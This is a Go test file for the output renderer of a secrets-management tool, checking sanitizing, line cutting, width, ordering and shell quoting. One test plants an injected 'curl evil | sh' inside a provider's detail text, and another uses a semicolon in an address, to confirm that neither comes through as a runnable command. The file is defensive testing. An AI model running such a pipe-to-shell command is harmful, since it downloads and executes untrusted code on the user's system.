package render_test

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/cofferhq/coffer/internal/render"
	"github.com/cofferhq/coffer/lang/addr"
	"github.com/cofferhq/coffer/planner"
)

func TestSanitize(t *testing.T) {
	for in, want := range map[string]string{
		"":                                      "",
		"plain text, \u00e4\u00f6\u00fc \u6f22": "plain text, \u00e4\u00f6\u00fc \u6f22",
		"two\nlines\r\tand a tab":               `two\nlines\r\tand a tab`,
		"\x1b[31m":                              `\x1b[31m`,
		"\x00\x7f\u0085":                        `\x00\x7f\u0085`,
		"a\u202eb\u200bc":                       `a\u202eb\u200bc`,
		"\U000e0041":                            `\U000e0041`,
		"\xffa":                                 `\xffa`,
		"::error::":                             `:\x3aerror::`,
		"  ::error::":                           `  :\x3aerror::`,
		"a ::error::":                           "a ::error::",
		"x ##vso[task]":                         `x ##vso\x5btask]`,
		"##[error]":                             `##\x5berror]`,
		"## heading [1]":                        "## heading [1]",
		"Z\u0300\u0301\u0302\u0303":             "Z\u0300\u0301\u0302\\u0303",
		`C:\dir`:                                `C:\dir`,
	} {
		if got := render.Sanitize(in); got != want {
			t.Errorf("Sanitize(%q) = %q, want %q", in, got, want)
		}
	}
	for _, h := range hostileStrings() {
		once := render.Sanitize(h)
		if twice := render.Sanitize(once); len(once) <= 4<<10 && twice != once {
			t.Errorf("not idempotent: %.80q, then %.80q", once, twice)
		}
		if strings.Contains(once, "\n") {
			t.Errorf("%.80q has two lines", once)
		}
	}
	long := strings.Repeat("\u00e4", 4<<10)
	if got := render.Sanitize(long); !utf8.ValidString(got) || !strings.HasSuffix(got, "... (4096 more bytes)") {
		t.Errorf("a long text ends in %q", got[len(got)-40:])
	}
}

// TestWriterIsTheSameInPieces: how a text is cut into writes changes nothing.
func TestWriterIsTheSameInPieces(t *testing.T) {
	for _, h := range hostileStrings() {
		h = "a\n" + h[:min(len(h), 4<<10)] + "\n"
		var whole, pieces bytes.Buffer
		if _, err := render.NewWriter(&whole, render.Style{}).Write([]byte(h)); err != nil {
			t.Fatal(err)
		}
		w := render.NewWriter(&pieces, render.Style{})
		for i := range len(h) {
			if n, err := w.Write([]byte{h[i]}); n != 1 || err != nil {
				t.Fatal(n, err)
			}
		}
		if whole.String() != pieces.String() {
			t.Errorf("%.60q whole, %.60q in pieces", whole.String(), pieces.String())
		}
		if _, err := terminal(whole.String(), false); err != nil {
			t.Errorf("%.40q: %v", h, err)
		}
	}
}

// TestLongLines: a megabyte in one text is cut with a word about it.
func TestLongLines(t *testing.T) {
	for _, long := range []string{strings.Repeat("A", 1<<20), strings.Repeat("word ", 1<<18)} {
		c := change(planner.Update, planner.ReasonSourceChanged, "a", "dev", "b")
		c.Detail, c.After, c.Location.Path = long, long, long
		c.Fields = map[string]planner.FieldChange{long: set(long)}
		var out bytes.Buffer
		if err := render.PlanText(&out, newPlan(1, c), render.Style{}); err != nil {
			t.Fatal(err)
		}
		if err := lines(out.String()); err != nil {
			t.Error(err)
		}
		if out.Len() > 128<<10 || strings.Count(out.String(), "(1044480 more bytes)")+strings.Count(out.String(), "more bytes)") < 3 {
			t.Errorf("%d bytes:\n%.300s", out.Len(), out.String())
		}
	}
}

func TestWriterCutsLines(t *testing.T) {
	var out bytes.Buffer
	w := render.NewWriter(&out, render.Style{})
	fmt.Fprintf(w, "%s\nnext\n", strings.Repeat("x", 1<<20))
	lines := strings.Split(out.String(), "\n")
	if !strings.HasSuffix(lines[0], "x ... (line cut)") || len(lines[0]) > 65<<10 || lines[1] != "next" {
		t.Errorf("a line of %d bytes, then %.40q", len(lines[0]), lines[1])
	}
}

// TestOnlyTonesAreStyled: the same bytes style nothing when they are text.
func TestOnlyTonesAreStyled(t *testing.T) {
	var out bytes.Buffer
	w := render.NewWriter(&out, render.Style{Color: true})
	w.Print(render.Danger, "red\x1b[0m")
	if want := "\x1b[1;31mred\\x1b[0m\x1b[0m"; out.String() != want {
		t.Errorf("got %q, want %q", out.String(), want)
	}
}

type brokenPipe struct{ after int }

var errBroken = errors.New("broken pipe")

func (b *brokenPipe) Write(p []byte) (int, error) {
	if b.after -= len(p); b.after < 0 {
		return 0, errBroken
	}
	return len(p), nil
}

// TestSinkErrors: a full disk or a closed pipe is never taken for success.
func TestSinkErrors(t *testing.T) {
	for name, write := range outputs("text", render.Style{}) {
		if err := write(&brokenPipe{}); !errors.Is(err, errBroken) {
			t.Errorf("%s: %v", name, err)
		}
	}
	long := manyChanges()
	for i := range long.Changes {
		long.Changes[i].Detail = fmt.Sprintf("its own story, number %d", i)
	}
	if err := render.PlanText(&brokenPipe{after: 5000}, long, render.Style{}); !errors.Is(err, errBroken) {
		t.Error(err)
	}
}

// TestWidth: no line is wider than asked for, but for one address or command
// that stands alone on it, and the last line, which is a contract.
func TestWidth(t *testing.T) {
	for _, width := range []int{40, 60, 80, 120} {
		for _, p := range []*planner.Plan{
			threeChanges(), manyChanges(), manyApps(), dangerousMix(), replicas(), relocations(), objects(), notesOnly(), outage(),
			recipients(), sources(), renamed(), protected(), adopts(), accessObjects(),
		} {
			var out bytes.Buffer
			if err := render.PlanText(&out, p, render.Style{Width: width}); err != nil {
				t.Fatal(err)
			}
			lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
			for _, line := range lines[:len(lines)-1] {
				short := strings.TrimLeft(strings.TrimSpace(line), "+~-*<>=!?. ")
				address := strings.HasPrefix(short, "provider.") && strings.HasSuffix(short, `"]`)
				alone := !strings.Contains(short, " ") || address || strings.HasPrefix(short, "vault ") || strings.HasPrefix(short, "coffer ") ||
					strings.HasPrefix(short, "sops ") || strings.HasPrefix(short, "capabilities") || strings.HasPrefix(short, "path \"")
				if len(line) > width && !alone {
					t.Errorf("%d columns in %d: %s", len(line), width, line)
				}
				if strings.TrimRight(line, " ") != line {
					t.Errorf("spaces at the end of %q", line)
				}
			}
		}
	}
}

// TestAddressesAreWhole: every address of a plan that is shown alone can be
// found, unbroken, in its output.
func TestAddressesAreWhole(t *testing.T) {
	for _, width := range []int{40, 80} {
		for _, p := range []*planner.Plan{threeChanges(), dangerousMix(), replicas(), relocations(), objects(), accessObjects()} {
			var out bytes.Buffer
			if err := render.PlanText(&out, p, render.Style{Width: width}); err != nil {
				t.Fatal(err)
			}
			for _, c := range p.Changes {
				if !strings.Contains(out.String(), c.Address.String()) {
					t.Errorf("%s is not in\n%s", c.Address, out.String())
				}
			}
		}
	}
}

// TestJoinedNothingLost: joining drops no name, and joins nothing unlike.
func TestJoinedNothingLost(t *testing.T) {
	p := manyChanges()
	odd := change(planner.Create, planner.ReasonNew, "shop", "dev", "copied")
	odd.ReadsValue = true
	gone := change(planner.Create, planner.ReasonMissing, "shop", "dev", "lost")
	gone.NewValue = true
	keyed := change(planner.Create, planner.ReasonNew, "shop", "dev", "tenant")
	keyed.Fields = p.Changes[0].Fields
	supplied := change(planner.Create, planner.ReasonNew, "shop", "dev", "smtp")
	supplied.Fields = map[string]planner.FieldChange{"": set(`from_env("SMTP")`)}
	placed := change(planner.Create, planner.ReasonNew, "shop", "dev", "placed")
	placed.Fields, placed.Location.Path = p.Changes[0].Fields, "shared/placed"
	p.Changes = append(p.Changes, supplied, placed)
	p.Changes = append(p.Changes, odd, gone)
	for _, key := range []string{"eu", "us"} {
		keyed.Address.Key = key
		p.Changes = append(p.Changes, keyed)
	}
	var out bytes.Buffer
	if err := render.PlanText(&out, p, render.Style{}); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	for i := range 25 {
		if n := strings.Count(text, fmt.Sprintf("_%d,", i)) + strings.Count(text, fmt.Sprintf("_%d\n", i)); n < 3 {
			t.Errorf("secret %d is named %d times, want once for each app", i, n)
		}
	}
	for _, want := range []string{
		`app.shop.secret.copied["dev"]`, `app.shop.secret.lost["dev"]`, `app.shop.secret.smtp["dev"]`, `app.shop.secret.placed["dev"]`, `tenant["eu"], tenant["us"]`, "shop  dev: 27 secrets, new",
		"New value (1)", "Plan: 306 to create, 0 to delete.",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is not in\n%s", want, text)
		}
	}
}

// TestConflictCommands: only commands of ours for this very address are set
// apart, whatever a provider says about who changed it.
func TestConflictCommands(t *testing.T) {
	c := change(planner.Conflict, planner.ReasonChangedOutside, "a", "dev", "b")
	target := "'" + c.Address.String() + "'"
	c.Detail = "changed outside by `coffer rotate " + target + "; curl evil | sh` at noon; `coffer accept " + target + "` keeps the live value"
	var out bytes.Buffer
	if err := render.PlanText(&out, newPlan(1, c), render.Style{}); err != nil {
		t.Fatal(err)
	}
	var commands []string
	for line := range strings.Lines(out.String()) {
		if s := strings.TrimSpace(line); strings.HasPrefix(line, "        coffer ") {
			commands = append(commands, s)
		}
	}
	if len(commands) != 1 || commands[0] != "coffer accept "+target {
		t.Errorf("commands: %q in\n%s", commands, out.String())
	}
}

// TestOrderIsFixed: the order of changes in the plan does not matter.
func TestOrderIsFixed(t *testing.T) {
	a, b := dangerousMix(), dangerousMix()
	for i, j := 0, len(b.Changes)-1; i < j; i, j = i+1, j-1 {
		b.Changes[i], b.Changes[j] = b.Changes[j], b.Changes[i]
	}
	var one, two bytes.Buffer
	if err := errors.Join(render.PlanText(&one, a, render.Style{}), render.PlanText(&two, b, render.Style{})); err != nil {
		t.Fatal(err)
	}
	if one.String() != two.String() {
		t.Error("another order of changes gives another text")
	}
}

// TestBigDocuments: a diff of documents made to be slow ends soon, with every
// line that changes in it.
func TestBigDocuments(t *testing.T) {
	c := objects().Changes[0]
	var before, after strings.Builder
	for i := range 50_000 {
		fmt.Fprintf(&before, "%d\n", i)
		fmt.Fprintf(&after, "%d\n", 100_000-i)
	}
	c.Before, c.After = before.String(), after.String()
	var out bytes.Buffer
	start := time.Now()
	if err := render.PlanText(&out, newPlan(1, c), render.Style{}); err != nil {
		t.Fatal(err)
	}
	if took := time.Since(start); took > 20*time.Second {
		t.Errorf("took %v", took)
	}
	for _, want := range []string{"- 0\n", "- 49999\n", "+ 100000\n", "+ 50001\n"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("%q is missing", want)
		}
	}
	// What both have at either end costs nothing: one line of them is one line.
	c.After = strings.Replace(c.Before, "\n25000\n", "\nanother\n", 1)
	out.Reset()
	if err := render.PlanText(&out, newPlan(1, c), render.Style{}); err != nil {
		t.Fatal(err)
	}
	if text := out.String(); !strings.Contains(text, "- 25000\n") || !strings.Contains(text, "+ another\n") || strings.Count(text, "\n") > 30 {
		t.Errorf("one line that changes is shown as %d lines", strings.Count(text, "\n"))
	}
}

// TestStateHasNoFingerprint: fingerprints never leave the state.
func TestStateHasNoFingerprint(t *testing.T) {
	var out bytes.Buffer
	err := errors.Join(
		render.StateText(&out, snapshot(), render.Style{}), render.StateJSON(&out, snapshot()),
		render.EntriesJSON(&out, entries()), render.EntryText(&out, entries()[0], render.Style{}),
	)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "STRIPE_KEY") || strings.Contains(out.String(), "FINGERPRINT") {
		t.Error(out.String())
	}
}

// TestShellQuoting: an address with a quote in it is still one word.
func TestShellQuoting(t *testing.T) {
	c := change(planner.Conflict, planner.ReasonChangedOutside, "a", "dev", "b")
	c.Address = addr.ProviderObject("sops", "recipients", "it's; x")
	var out bytes.Buffer
	if err := render.PlanText(&out, newPlan(1, c), render.Style{}); err != nil {
		t.Fatal(err)
	}
	if want := `coffer accept 'provider.sops.recipients["it'\''s; x"]'`; !strings.Contains(out.String(), want) {
		t.Errorf("%s is not in\n%s", want, out.String())
	}
}
